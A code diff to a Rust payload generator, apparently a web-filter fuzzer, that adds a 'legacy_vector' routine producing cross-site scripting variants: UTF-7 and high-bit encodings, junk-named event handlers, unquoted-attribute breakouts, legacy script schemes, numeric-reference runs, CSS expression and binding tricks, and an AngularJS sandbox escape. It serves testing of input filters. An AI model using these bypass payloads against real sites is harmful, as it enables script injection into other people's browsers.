@@ -92,6 +92,12 @@ impl Family for XssHtml {
             return Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value };
         }
         let (js, _) = expression(rng, &mut Vec::new());
+        if rng.chance(0.15) {
+            let payload = legacy_vector(rng, &js, &mut muts);
+            let (payload, layer) = transport_layer(rng, &payload);
+            muts.push(layer);
+            return Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value };
+        }
         let payload = match rng.below(12) {
             0..=4 => event_handler(rng, &js, &mut muts),
             5 | 6 => script(rng, &js, &mut muts),
@@ -377,5 +383,116 @@ fn attribute_breakout(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> 
         // Unquoted, the value ends at whitespace: comments stand in for spaces.
         1 => format!("{q} {extra} {event}={} x={q}", js.replace(' ', "/**/")),
         _ => format!("x{q}{}{event}={q}{js}{q}", sep(rng, muts)),
+    }
+}
+
+/// A call with no quotes or blanks, as an unquoted attribute value holds it.
+fn bare_call(rng: &mut Rng) -> String {
+    let probe = *rng.pick(&["alert", "prompt", "confirm", "print"]);
+    let n = rng.range(0, 9999);
+    match rng.below(4) {
+        0 => format!("{probe}({n})"),
+        1 => format!("{}.{probe}({n})", rng.pick(&["top", "window", "self", "parent"])),
+        2 => format!("{probe}`{n}`"),
+        _ => format!("eval(atob(`{}`))", base64(&format!("{probe}({n})"))),
+    }
+}
+
+/// Shapes that issue 12 found the families missing (pool rows of fuzzdb, httpparams,
+/// PayloadsAllTheThings): legacy parsers, other encodings and markup a filter reads in halves.
+fn legacy_vector(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
+    let (tag, needs, events) = *rng.pick(HOSTS);
+    let event = *rng.pick(events);
+    let call = bare_call(rng);
+    match rng.below(13) {
+        0 => {
+            // `onload!#$%&()*~+-_.,:;?@[/|\]^`=`: Gecko before HTML5 cut the name at the first
+            // non-letter; filters that look for `on\w+=` see no handler.
+            muts.push("handler-junk-name");
+            let junk = *rng.pick(&["!#$%&()*~+-_.,:;?@[/|\\]^`", "/", "!", "%", "[x]", ";;", "*~"]);
+            format!("<{tag}{}{needs} {event}{junk}={call}>", if needs.is_empty() { "" } else { " " })
+        }
+        1 => {
+            // Reflected into an unquoted attribute: the value keeps a first word, a blank ends it.
+            muts.push("unquoted-breakout");
+            let word = *rng.pick(&["x", "xyz", "width:1px;filter:glow", "list-style:url()", "a.png", "1"]);
+            // One attribute the host needs (`autofocus`, `src=x`) may follow the first word.
+            let extra = match needs.split(' ').next() {
+                Some(a) if !a.is_empty() && rng.chance(0.5) => format!(" {a}"),
+                _ => String::new(),
+            };
+            let end = *rng.pick(&[">", "></div>", ";", "//"]);
+            format!("{word}{extra} {event}={call}{end}")
+        }
+        2 => {
+            muts.push("utf-7");
+            let meta = if rng.chance(0.5) { "<meta charset=\"UTF-7\">" } else { "" };
+            let t = name_case(rng, "script", muts);
+            format!("{meta}+ADw-{t}+AD4-{js}+ADw-/{t}+AD4-")
+        }
+        3 => {
+            muts.push("high-bit-ascii");
+            let (lt, gt) = *rng.pick(&[("\u{bc}", "\u{be}"), ("%BC", "%BE")]);
+            format!("{lt}script{gt}{call}{lt}/script{gt}")
+        }
+        4 => {
+            muts.push("legacy-scheme");
+            let scheme = *rng.pick(&["mocha", "livescript", "MOCHA", "LiveScript"]);
+            let (open, attr) = *rng.pick(&[("<img ", "src"), ("<a ", "href"), ("<iframe ", "src"), ("<body ", "background")]);
+            format!("{open}{attr}=\"{scheme}:{call}\">")
+        }
+        5 => {
+            muts.push("nul-in-name");
+            let nul = *rng.pick(&["\\0", "%00", "\\x00"]);
+            let (name, rest) =
+                *rng.pick(&[("scr|ipt", "/src=//x.example/x.js></script>"), ("i|mg", " src=x onerror=CALL>"), ("sv|g", "/onload=CALL>")]);
+            format!("<<{}{}", name.replace('|', nul), rest.replace("CALL", &call))
+        }
+        6 => {
+            // Every letter of the script URL as a numeric reference, the tag name glued to
+            // the attribute (`<IMGSRC=&#106;...`) so no tokenizer sees an element.
+            muts.push("reference-run");
+            let url = format!("javascript:{call}");
+            let hex = rng.chance(0.5);
+            let refs: String = url.chars().map(|c| if hex { format!("&#x{:X}", c as u32) } else { format!("&#{:07}", c as u32) }).collect();
+            format!("<IMGSRC={refs}>")
+        }
+        7 => {
+            muts.push("css-expression-broken");
+            let word = *rng.pick(&["e/**/xpression", "expr/**/ession", "ex/*x*/pression", "e\\xpression", "expression\\28"]);
+            let open = if word.ends_with("28") { "" } else { "(" };
+            format!("<div style=\"x:{word}{open}{call})\">x</div>")
+        }
+        8 => {
+            muts.push("close-chain");
+            let chain: Vec<String> =
+                (0..rng.range(2, 4)).map(|_| format!("</{}", rng.pick(&["stYle", "titLe", "teXtarEa", "scRipt", "noscript"]))).collect();
+            format!("{}/{}", chain.join("/"), rng.pick(&["--!>", ">", ""]))
+        }
+        9 => {
+            muts.push("namespaced-script");
+            let p = *rng.pick(&["a", "x", "html", "something"]);
+            format!("<{p}:script xmlns:{p}=\"http://www.w3.org/1999/xhtml\">{js}</{p}:script>")
+        }
+        10 => {
+            muts.push("split-strings");
+            let cut = rng.range(1, 5);
+            let (l, r) = "script".split_at(cut);
+            let w = *rng.pick(&["echo", "print", "document.write"]);
+            format!("<? {w}('<{}');{w}('{}>{call}</script>'); ?>", l.to_uppercase(), r.to_uppercase())
+        }
+        11 => {
+            muts.push("css-binding");
+            let target = *rng.pick(&["//x.example/xss.xml#xss", "data:text/xml,x", "http://x.example/b.xml"]);
+            if rng.chance(0.5) {
+                format!("<div style=\"binding: url({target});\">")
+            } else {
+                format!("<style>@im\\port'{target}';</style>")
+            }
+        }
+        _ => {
+            muts.push("sandbox-escape");
+            format!("{{{{(_=''.sub).call.call({{}}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'{call}')()}}}}")
+        }
     }
 }
